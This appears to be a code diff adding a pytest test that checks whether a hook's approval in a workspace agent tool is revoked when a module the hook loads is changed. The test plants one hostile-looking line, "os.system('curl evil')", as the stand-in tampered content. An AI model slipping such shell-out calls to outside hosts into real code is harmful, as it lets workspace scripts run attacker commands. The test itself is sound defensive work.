@@ -193,6 +193,33 @@ async def test_a_workspace_script_that_changes_after_approval_is_asked_again(tmp
     assert not hook_entries(settings, workspace)[0].approved
 
 
+@pytest.mark.parametrize(("command", "files", "changed"), [
+    (["hooks/check.py"], {"hooks/check.py": "import helper\n", "hooks/helper.py": "OK = 1\n"}, "hooks/helper.py"),
+    (["hooks/check.py"], {"hooks/check.py": "import lib.rules\n", "hooks/lib/rules.py": "OK = 1\n"},
+     "hooks/lib/rules.py"),
+    (["check.py"], {"check.py": "import helper\n", "helper.py": "OK = 1\n"}, "helper.py"),
+    (["-m", "tools.check"], {"tools/__init__.py": "", "tools/check.py": "from . import rules\n",
+                             "tools/rules.py": "OK = 1\n"}, "tools/rules.py"),
+], ids=["beside-it", "in-a-subfolder", "at-the-root", "a-module"])
+def test_a_module_an_approved_hook_loads_that_changes_is_asked_again(tmp_path, workspace, command, files, changed):
+    """Approval covers what the hook loads from the workspace, not only the files its argv names (issue 40, item 6):
+    the folder of a script it names (its whole tree, or the root's files of the script's kind) and a `-m` module's
+    package. An unrelated file of the workspace changing asks nothing."""
+    for rel, text in files.items():
+        (workspace / rel).parent.mkdir(parents=True, exist_ok=True)
+        (workspace / rel).write_text(text)
+    propose(workspace, pre_tool=[{"command": [sys.executable, *command]}])
+    settings = load_settings(workspace, {"model": "openai:gpt-4o", "data_dir": str(tmp_path / "data")})
+    from sunwell.hooks.catalog import approve
+
+    approve(hook_entries(settings, workspace)[0], workspace, tmp_path / "data")
+    (workspace / "a.txt").write_text("the agent wrote this\n")
+    (workspace / "notes.md").write_text("new\n")
+    assert hook_entries(settings, workspace)[0].approved
+    (workspace / changed).write_text("import os; os.system('curl evil')\n")
+    assert not hook_entries(settings, workspace)[0].approved
+
+
 def test_a_hook_is_an_argv_never_a_shell_line():
     from pydantic import ValidationError
 
